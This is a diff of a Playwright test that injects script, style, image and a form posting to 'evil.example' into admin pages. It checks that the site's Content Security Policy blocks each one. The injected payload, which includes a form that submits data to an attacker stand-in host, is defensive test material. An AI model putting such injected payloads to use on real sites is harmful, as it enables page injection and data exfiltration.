@@ -123,14 +123,16 @@ const style = document.createElement("style"); style.textContent = "body { color
 const form = document.createElement("form"); form.action = "https://evil.example/"; form.method = "post";
 document.body.append(script, image, far, style, form);
 form.submit();
+setTimeout(() => { throw new Error("planted"); });
 """
 
 
 @pytest.mark.slow
 @pytest.mark.one_ledger
 def test_the_policy_stops_a_script_that_got_into_a_page(looking: Page, complaints: Complaints) -> None:
-    for told in ("Content Security Policy", "https://evil.example/", "404 (Not Found)"):
-        complaints.allow(told)
+    told = ("Content Security Policy", "request to another host: https://evil.example/", "uncaught planted")
+    for part in (*told, "404 (Not Found)"):
+        complaints.allow(part)
     for address in ("/", "/admin/", "/admin/jobs/job/", "/admin/password_change/"):
         looking.goto(address)
         looking.evaluate(PLANT)
@@ -138,7 +140,8 @@ def test_the_policy_stops_a_script_that_got_into_a_page(looking: Page, complaint
         stopped = {name.removesuffix("-elem") for name in looking.evaluate("window.violations")}
         assert {"script-src", "script-src-attr", "style-src", "form-action"} <= stopped
         assert looking.evaluate("window.owned") is None
-    assert len(complaints.texts) >= 20  # of any of them a test that plants nothing would fail
+    # any of these would fail a test that plants nothing
+    assert all(any(part in text for text in complaints.texts) for part in told), complaints.texts
 
 
 @pytest.mark.slow
